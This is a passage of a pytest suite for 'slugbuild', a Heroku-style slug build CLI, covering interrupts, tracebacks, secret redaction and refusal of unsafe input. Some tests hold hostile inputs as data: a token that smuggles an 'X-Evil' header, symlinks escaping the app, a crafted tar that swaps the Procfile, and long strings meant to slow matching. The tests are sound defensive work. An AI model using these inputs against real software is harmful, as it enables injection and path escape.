    unpacked.mkdir()
    with tarfile.open(out) as tar:
        tar.extractall(unpacked, **({"filter": "tar"} if hasattr(tarfile, "tar_filter") else {}))
    python = unpacked / ".heroku/python/bin/python3"
    probe = subprocess.run([python, "-c", "import sys, six; print(sys.prefix)"],
                           capture_output=True, text=True)
    assert probe.returncode == 0, probe.stderr
    assert Path(probe.stdout.strip()) == unpacked / ".heroku/python"


def test_unexpected_exceptions_are_internal_errors_with_a_traceback_file(
        tmp_path, monkeypatch, capsys):
    import tempfile

    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    redact.register_secrets([SECRETS[0]])

    def broken(_app):
        raise ZeroDivisionError(f"boom near {SECRETS[0]}")

    monkeypatch.setattr(cli, "detect", broken)
    assert cli.main(["detect", str(tmp_path)]) == 1
    err = capsys.readouterr().err
    assert_one_error(err, "internal-error")
    assert "ZeroDivisionError" in err and SECRETS[0] not in err
    written = sorted(tmp_path.glob("slugbuild-internal-error-*.txt"))
    assert len(written) == 1 and str(written[0]) in err
    content = written[0].read_text()
    assert "Traceback (most recent call last)" in content and "ZeroDivisionError" in content
    assert SECRETS[0] not in content
    assert (written[0].stat().st_mode & 0o077) == 0  # private to the user
    # --verbose: the traceback on stderr instead, before the one message.
    assert cli.main(["detect", str(tmp_path), "--verbose"]) == 1
    err = capsys.readouterr().err
    assert "Traceback (most recent call last)" in err and "Error [internal-error]" in err
    assert len(list(tmp_path.glob("slugbuild-internal-error-*.txt"))) == 1


def test_keyboard_interrupt_exits_130_without_traceback(tmp_path, monkeypatch, capsys):
    def interrupted(_app):
        raise KeyboardInterrupt

    monkeypatch.setattr(cli, "detect", interrupted)
    assert cli.main(["detect", str(tmp_path)]) == 130
    err = capsys.readouterr().err
    assert "Interrupted" in err and "Traceback" not in err
    # One catalogue message (build-interrupted), with its code and what to do.
    assert err.count("Error [build-interrupted]: Interrupted (SIGINT)") == 1
    assert "Run the same command again" in err
    # Not a build: nothing says a slug or the cache was spared.
    assert "`slugbuild detect` was stopped by SIGINT" in err
    assert "slug" not in err.replace("slugbuild", "") and "cache" not in err


@pytest.mark.parametrize("argv, command, build", [
    (["compile", "APP"], "compile", True),
    (["run", "APP.tgz"], "run", False),
    (["runtime", "publish", "docker://127.0.0.1:1/r", "--python", "3.12"],
     "runtime publish", False),
    (["cache", "list"], "cache list", False),
])
def test_an_interrupted_command_is_named_and_only_a_build_speaks_of_slugs(
        argv, command, build, tmp_path, monkeypatch, capsys):
    """`slugbuild run` stopped by a signal is not told "no slug was written"."""
    def interrupted(_args):
        raise cli.Stopped(signal.SIGTERM)

    monkeypatch.setattr(cli, "_dispatch", interrupted)
    assert cli.main([part.replace("APP", str(tmp_path / "app")) for part in argv]) == 143
    err = capsys.readouterr().err
    assert err.count("Error [build-interrupted]: Interrupted (SIGTERM)") == 1, err
    assert ("no slug or output file was written" in err) is build, err
    assert (f"`slugbuild {command}` was stopped by SIGTERM" in err) is not build, err


def test_sigint_during_a_real_build_exits_130(tmp_path, cache_dir):
    import signal

    app = make_app(tmp_path / "app", MINIMAL)
    out = tmp_path / "slug.tgz"
    process = subprocess.Popen(
        [sys.executable, "-m", "slugbuild", "compile", str(app), "-o", str(out),
         "--cache-dir", str(tmp_path / "cache")],
        stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, preexec_fn=default_sigint)
    time.sleep(1.0)
    process.send_signal(signal.SIGINT)
    output, _ = process.communicate(timeout=120)
    if process.returncode == 0:
        pytest.skip("the build finished before the signal")
    assert process.returncode == 130, output
    assert_no_traceback(output)
    assert not out.exists()


# Sends itself SIGINT while `slugbuild.__main__.entry` imports the command line.
_INTERRUPTED_WHILE_LOADING = """
import builtins, os, signal, sys
import slugbuild.__main__ as launcher
real_import = builtins.__import__
def interrupting_import(name, *args, **kwargs):
    if name == "cli" or name.endswith(".cli"):
        os.kill(os.getpid(), signal.SIGINT)
    return real_import(name, *args, **kwargs)
builtins.__import__ = interrupting_import
sys.argv = ["slugbuild", "--version"]
sys.exit(launcher.entry())
"""


def test_ctrl_c_while_the_command_line_still_loads_exits_130_without_a_traceback():
    """The flaky case of the test above, made certain: the signal arrives during the
    imports, before cli.main can handle it."""
    done = subprocess.run([sys.executable, "-c", _INTERRUPTED_WHILE_LOADING],
                          capture_output=True, text=True, timeout=60)
    assert done.returncode == 130, done.stdout + done.stderr
    assert_no_traceback(done.stdout + done.stderr)


@pytest.mark.parametrize("argv", [
    ["inspect", "NUL\0path.tgz"],
    ["compile", "app\0dir"],
])
def test_paths_with_nul_bytes_are_refused(argv, capsys):
    assert cli.main(argv) == 1
    assert_one_error(capsys.readouterr().err, "filesystem-error")


def test_truncated_or_foreign_slugs_are_clear_errors(tmp_path, slug):
    truncated = tmp_path / "cut.tgz"
    truncated.write_bytes(slug.read_bytes()[:60])
    garbage = tmp_path / "garbage.tgz"
    garbage.write_bytes(os.urandom(4096))
    for path in (truncated, garbage, tmp_path):
        for command in (["inspect", path], ["publish", path, "--heroku-app", "demo"]):
            result = run_cli(*command, env=cli_env(HEROKU_API_KEY=TOKEN))
            assert result.returncode == 1
            # A directory is no slug; a file that is not a whole gzipped tar is unreadable.
            assert_one_error(result.stderr,
                             "slug-not-found" if path == tmp_path else "slug-unreadable")


def test_a_closed_stdout_is_not_a_traceback(slug):
    process = subprocess.Popen([sys.executable, "-m", "slugbuild", "inspect", str(slug)],
                               stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    process.stdout.close()
    _, err = process.communicate(timeout=60)
    assert_no_traceback(err.decode())


@pytest.mark.parametrize(("command", "name"), [
    ("compile", ".python-version"), ("compile", "runtime.txt"), ("compile", "Pipfile.lock"),
    ("compile", ".buildpacks"), ("lock", "requirements.in"), ("lock", "pyproject.toml"),
])
def test_top_level_links_out_of_the_app_are_never_read(tmp_path, cache_dir, command, name):
    """Detection reads top-level files before staging checks links: checked first."""
    outside = tmp_path / "outside.txt"
    outside.write_text("TOP-SECRET-CONTENT 3.12\n")
    app = make_app(tmp_path / "app", {"requirements.txt": "six==1.17.0\n"}
                   if command == "compile" else {})
    (app / name).symlink_to(outside)
    args = ["-o", tmp_path / "s.tgz"] if command == "compile" else []
    result = run_cli(command, app, "--cache-dir", cache_dir, *args)
    assert result.returncode == 1
    assert_one_error(result.stderr, "unsafe-symlink")
    assert "TOP-SECRET-CONTENT" not in result.stderr + result.stdout
    assert not (tmp_path / "s.tgz").exists()


def test_a_failing_helper_program_is_tool_failed(tmp_path):
    """strip (binutils) that fails while the runtime is prepared: a catalogue error."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    (bin_dir / "strip").write_text("#!/bin/sh\necho 'strip: broken toolchain' >&2\nexit 9\n")
    (bin_dir / "strip").chmod(0o755)
    app = make_app(tmp_path / "app", MINIMAL)
    result = run_cli("compile", app, "-o", tmp_path / "s.tgz", "--cache-dir", tmp_path / "c",
                     env=cli_env(PATH=f"{bin_dir}:{os.environ['PATH']}"))
    assert result.returncode == 1
    assert_one_error(result.stderr, "tool-failed")
    assert "strip --strip-debug" in result.stderr and "broken toolchain" in result.stderr
    assert not (tmp_path / "s.tgz").exists()
    assert list((tmp_path / "c" / "tmp").iterdir()) == []


def test_a_malformed_token_is_refused_without_showing_it(slug):
    for token in (f"{TOKEN}\nX-Evil: 1", f" {TOKEN} trailing", f"{TOKEN}\u00e9"):
        result = run_cli("publish", slug, "--heroku-app", "demo", "--api-url",
                         "http://127.0.0.1:9", env=cli_env(HEROKU_API_KEY=token))
        assert_one_error(result.stderr, "publish-bad-token")
        assert_nothing_leaks([TOKEN], result.stderr)


def test_a_deep_directory_tree_is_one_clear_error(tmp_path, cache_dir):
    app = make_app(tmp_path / "app", MINIMAL)
    here = os.open(app, os.O_RDONLY)
    try:
        for _ in range(1200):  # below PATH_MAX, past the recursion limit of os.walk < 3.12
            os.mkdir("d", dir_fd=here)
            inner = os.open("d", os.O_RDONLY, dir_fd=here)
            os.close(here)
            here = inner
    finally:
        os.close(here)
    try:
        result = run_cli("compile", app, "-o", tmp_path / "s.tgz", "--cache-dir", cache_dir)
    finally:
        subprocess.run(["rm", "-rf", str(app / "d")], check=False)  # rmtree would recurse
    if result.returncode == 0:  # os.walk is iterative from Python 3.12
        assert (tmp_path / "s.tgz").exists()
        return
    assert_one_error(result.stderr, "input-too-deep")
    assert not (tmp_path / "s.tgz").exists()


@pytest.mark.parametrize(("args", "code"), [
    (["run", "SLUG", "--env-file", "/dev/zero"], "env-file-unreadable"),
    (["compile", "APP", "--constraints-from", "/dev/zero"], "constraints-unusable"),
])
def test_devices_given_as_input_files_are_refused_not_read_forever(tmp_path, slug, args,
                                                                     code):
    app = make_app(tmp_path / "app", MINIMAL)
    argv = [str(slug) if a == "SLUG" else str(app) if a == "APP" else a for a in args]
    result = run_cli(*argv, "-o", tmp_path / "s.tgz", timeout=60) if args[0] == "compile" \
        else run_cli(*argv, timeout=60)
    assert result.returncode == 1
    assert_one_error(result.stderr, code)


def test_publish_timeout_values_are_bounded():
    assert publish._timeout_seconds(float("inf")) == publish.MAX_TIMEOUT
    assert publish._timeout_seconds(float("nan")) == publish.DEFAULT_TIMEOUT
    assert publish._timeout_seconds(-5) == publish.DEFAULT_TIMEOUT


def test_internal_error_when_the_traceback_cannot_be_written(tmp_path, monkeypatch, capsys):
    import tempfile

    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path / "missing"))
    monkeypatch.setattr(cli, "detect", lambda _app: {}["no such key"])
    assert cli.main(["detect", str(tmp_path)]) == 1
    err = capsys.readouterr().err
    assert_one_error(err, "internal-error")
    assert "KeyError" in err and "could not be written" in err and "--verbose" in err


def test_a_nul_byte_in_a_buildpacks_line_is_one_clear_error(tmp_path, cache_dir):
    app = make_app(tmp_path / "app", {**MINIMAL, ".buildpacks": "python\n\0\xff\n"})
    result = run_cli("compile", app, "-o", tmp_path / "s.tgz", "--cache-dir", cache_dir)
    assert result.returncode == 1
    assert_one_error(result.stderr, "filesystem-error")
    assert "NUL byte" in result.stderr and "traceback" not in result.stderr


def test_a_port_out_of_range_is_a_usage_error(slug):
    result = run_cli("run", slug, "web", "--port", "99999999", timeout=60)
    assert result.returncode == 2 and "not a port number" in result.stderr


@pytest.mark.parametrize("url", ["http://user:s3cr3t/pw@127.0.0.1:9/simple",
                                 "https://tok@pypi.invalid:port/simple", "ftp://x/simple"])
def test_an_index_url_installers_would_choke_on_is_refused_without_pieces(tmp_path,
                                                                          cache_dir, url):
    app = make_app(tmp_path / "app", MINIMAL)
    result = run_cli("compile", app, "-o", tmp_path / "s.tgz", "--cache-dir", cache_dir,
                     "--env", f"PIP_EXTRA_INDEX_URL=https://ok.invalid/simple {url}")
    assert result.returncode == 1
    assert_one_error(result.stderr, "invalid-config-var")
    assert "PIP_EXTRA_INDEX_URL" in result.stderr
    assert_nothing_leaks(["s3cr3t", "tok@"], result.stderr, result.stdout)


def test_pieces_of_url_credentials_are_masked_too():
    redact.register_secrets(["http://user:s3cr3t/pw@127.0.0.1:9/simple"])
    masked = redact.mask("ValueError: Port could not be cast to integer value as 's3cr3t'")
    assert "s3cr3t" not in masked


@pytest.mark.parametrize("text", ["x://" * 50_000, "a://b:" * 40_000, "?" + "a" * 200_000,
                                  "&sig" * 50_000, "http://" + "a:" * 100_000])
def test_masking_a_long_hostile_line_takes_linear_time(text):
    started = time.monotonic()
    redact.register_secrets([text])
    redact.mask(text)
    assert time.monotonic() - started < 3


# --- found by the attacker review of the merged work ---------------------------------------

def test_every_line_of_a_multi_line_secret_is_masked():
    """A PEM key as a config var: tools print it line by line."""
    key = "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0B\n-----END PRIVATE KEY-----"
    redact.register_secrets([key])
    for line in key.splitlines():
        assert line not in redact.mask(f"C={line} and more")
    assert "MIIEvQIBADANBgkqhkiG9w0B" not in redact.mask(key.replace("\n", "\r\n"))


def test_an_output_that_is_not_a_regular_file_is_refused_before_the_build(tmp_path):
    """`-o /dev/null` once replaced the device with the slug (the output is renamed)."""
    app = make_app(tmp_path / "app", {"requirements.txt": "six==1.17.0\n"})
    fifo = tmp_path / "out.tgz"
    os.mkfifo(fifo)
    link = tmp_path / "link.tgz"
    link.symlink_to(tmp_path / "elsewhere.tgz")
    for output in (fifo, link):
        result = run_cli("compile", app, "-o", output, "--cache-dir", tmp_path / "cache")
        assert result.returncode == 1
        assert_one_error(result.stderr, "output-not-writable")
    assert fifo.is_fifo() and link.is_symlink() and not (tmp_path / "elsewhere.tgz").exists()


@pytest.mark.parametrize("meta", ['[]', '"x"', '{"requires": []}', '{"hash": 5}',
                                  '{"hash": {"sha256": 5}}', '{"sources": [1]}'])
def test_a_pipfile_lock_of_the_wrong_shape_is_malformed_not_a_crash(tmp_path, meta):
    """Pipenv reads _meta without checking: it crashed, or installed nothing with exit 0."""
    from slugbuild.installers.locks import check_syntax

    (tmp_path / "Pipfile.lock").write_text(f'{{"_meta": {meta}, "default": {{}}}}')
    with pytest.raises(errors.SlugbuildError) as caught:
        check_syntax(tmp_path, "Pipfile.lock", "pipenv lock")
    assert caught.value.code == "lock-file-malformed"
    from slugbuild.versions import _read_pipfile_lock

    assert _read_pipfile_lock((tmp_path / "Pipfile.lock").read_text()) is None


def test_inspect_and_run_agree_on_what_a_slug_holds(tmp_path):
    """A path twice (a file, then a link to another Procfile) made inspect show one
    command and run start another: refused by both. A Procfile that is a link
    inside the slug is followed by inspect, as run follows it."""
    twice = crafted_tar(tmp_path / "twice.tgz", [
        ("./Procfile", None, "web: echo BENIGN\n"), ("./evil", None, "web: echo EVIL\n"),
        ("./Procfile", "evil", "")])
    for command in (["inspect", twice], ["run", twice, "web"]):
        result = run_cli(*command)
        assert result.returncode == 1 and "EVIL" not in result.stdout
        assert_one_error(result.stderr, "unsafe-slug")
    linked = crafted_tar(tmp_path / "linked.tgz", [
        ("./real", None, "show: echo FROM-REAL\n"), ("./Procfile", "real", "")])
    shown = run_cli("inspect", linked, "--json")
    assert shown.returncode == 0, shown.stderr
    assert json.loads(shown.stdout)["process_types"] == {"show": "echo FROM-REAL"}
    ran = run_cli("run", linked, "show")
    assert ran.returncode == 0 and ran.stdout.strip() == "FROM-REAL", ran.stderr


def test_a_named_file_url_outside_the_app_is_refused(tmp_path):
    """`pkg @ file:///elsewhere` was installed, and left out of the layer key: a
    change there gave a stale slug with exit 0."""
    outside = tmp_path / "ext"
    outside.mkdir()
    (outside / "pyproject.toml").write_text('[project]\nname = "extpkg"\nversion = "1.0"\n')
    app = make_app(tmp_path / "app", {
        "requirements.txt": f"six==1.17.0\nextpkg[x] @ file://{outside}\n"})
    result = run_cli("compile", app, "-o", tmp_path / "slug.tgz",
                     "--cache-dir", tmp_path / "cache")
    assert result.returncode == 1
    assert_one_error(result.stderr, "requirements-outside-app")
    assert not (tmp_path / "slug.tgz").exists()


@pytest.mark.slow
def test_compile_never_writes_a_slug_its_readers_refuse(tmp_path, cache_dir):
    """A Procfile over the readers' metadata limit was packed with exit 0; `inspect`
    and `run` then refused the slug."""
    app = make_app(tmp_path / "app", {
        ".python-version": "3.13\n", "requirements.txt": "six==1.17.0\n",
        "Procfile": "web: python -m http.server " + "x" * (1024 ** 2) + "\n"})
    result = run_cli("compile", app, "-o", tmp_path / "slug.tgz", "--cache-dir", cache_dir)
    assert result.returncode == 1
    assert_one_error(result.stderr, "procfile-malformed")
    assert "SLUGBUILD_MAX_METADATA_SIZE" in result.stderr
    assert not (tmp_path / "slug.tgz").exists()
